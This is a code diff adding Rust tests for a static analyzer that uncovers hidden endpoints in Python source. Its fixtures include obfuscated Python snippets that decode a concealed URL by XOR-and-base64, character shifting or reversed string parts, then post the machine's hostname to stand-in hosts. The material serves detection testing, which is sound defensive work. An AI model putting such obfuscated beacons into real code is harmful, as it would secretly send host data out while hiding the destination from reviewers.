@@ -1047,3 +1047,145 @@ fn dns_resolver_objects_send_names_built_from_data() {
     assert_eq!(to, vec!["b.example.top", "c.example.top"], "{:#?}", f.flows);
     assert!(f.flows.iter().all(|fl| fl.sink == SinkKind::Dns));
 }
+
+/// `s` XORed with the key's characters in turn, then base64.
+fn xor_base64(s: &str, key: &str) -> String {
+    use base64::Engine;
+    let k = key.as_bytes();
+    let bytes: Vec<u8> = s
+        .bytes()
+        .enumerate()
+        .map(|(i, b)| b ^ k[i % k.len()])
+        .collect();
+    base64::engine::general_purpose::STANDARD.encode(bytes)
+}
+
+#[test]
+fn decoders_written_as_statements_are_run() {
+    let xor = format!(
+        r#"import base64, socket, requests
+def _d(s, k="K3y"):
+    """Decode."""
+    b = bytearray(base64.b64decode(s))
+    for i in range(len(b)):
+        b[i] ^= ord(k[i % len(k)])
+    return b.decode()
+requests.post(_d("{}"), data=socket.gethostname())
+"#,
+        xor_base64("https://py-xor.hidden.example/c", "K3y")
+    );
+    let shifted: String = "https://py-shift.hidden.example/c"
+        .chars()
+        .map(|c| char::from_u32(c as u32 + 3).unwrap())
+        .collect();
+    let shift = format!(
+        r#"import socket, requests
+def dec(s, n=3):
+    out = ""
+    i = 0
+    while i < len(s):
+        c = s[i]
+        if c == " ":
+            out += c
+        elif ord(c) > n and not c in "0123456789":
+            out += chr(ord(c) - n)
+        else:
+            out += chr(ord(c) - n)
+        i += 1
+    return out
+requests.post(dec({shifted:?}), data=socket.gethostname())
+"#
+    );
+    let parts = r#"import socket, requests
+def build(words):
+    parts = []
+    for w in words:
+        if w in ("x", "y"):
+            continue
+        parts.append(w[::-1])
+    return "".join(parts)
+requests.post(build(["//:sptth", "x", "elpmaxe.neddih.strap-yp", "y", "c/"]), data=socket.gethostname())
+"#;
+    for (src, host) in [
+        (xor.as_str(), "py-xor.hidden.example"),
+        (shift.as_str(), "py-shift.hidden.example"),
+        (parts, "py-parts.hidden.example"),
+    ] {
+        let f = facts(src);
+        assert!(
+            hidden_hosts(&f).contains(&host),
+            "{src}\n{:#?}",
+            f.endpoints
+        );
+        assert!(
+            f.flows
+                .iter()
+                .any(|fl| fl.kinds.contains(DataKind::Hostname)
+                    && fl.endpoints.iter().any(|e| e == host)),
+            "{src}\n{:#?}",
+            f.flows
+        );
+    }
+}
+
+#[test]
+fn statement_decoders_with_effects_or_no_end_give_nothing() {
+    let b64 = "aHR0cHM6Ly9ob3N0aWxlLmV4YW1wbGUv";
+    for body in [
+        // Effects outside the call, or calls not known to be pure.
+        "print(s)\n    return base64.b64decode(s)",
+        "open('/tmp/x', 'w').write(s)\n    return base64.b64decode(s)",
+        // No end, or values past the bounds.
+        "while True:\n        pass\n    return base64.b64decode(s)",
+        "while True:\n        s = s + s\n    return s",
+        "for i in range(10**9):\n        s = s\n    return base64.b64decode(s)",
+        "x = s\n    for i in range(200):\n        x = x + x\n    return base64.b64decode(s)",
+        "return f(s + 'x')",
+        "y = f(s)\n    return y",
+    ] {
+        let src = format!(
+            "import base64, socket, requests\ndef f(s):\n    {body}\nrequests.post(f({b64:?}), data=socket.gethostname())\n"
+        );
+        let t = std::time::Instant::now();
+        let f = facts(&src);
+        assert!(
+            t.elapsed() < std::time::Duration::from_secs(10),
+            "{src}: {:?}",
+            t.elapsed()
+        );
+        assert!(
+            !hidden_hosts(&f).contains(&"hostile.example"),
+            "{src}\n{:#?}",
+            f.endpoints
+        );
+        assert!(
+            f.flows
+                .iter()
+                .any(|fl| fl.kinds.contains(DataKind::Hostname)),
+            "{src}\n{:#?}",
+            f.flows
+        );
+    }
+}
+
+#[test]
+fn ordinary_statement_helpers_hide_nothing() {
+    let f = facts(
+        r#"import requests
+def url(path, version=2):
+    base = "https://api.plain.example"
+    if version > 1:
+        base += "/v%d" % version
+    return base + "/" + path
+requests.get(url("items"))
+"#,
+    );
+    assert!(f.obfuscations.is_empty(), "{:#?}", f.obfuscations);
+    assert!(
+        f.endpoints
+            .iter()
+            .any(|e| e.host == "api.plain.example" && e.encodings.is_empty()),
+        "{:#?}",
+        f.endpoints
+    );
+}
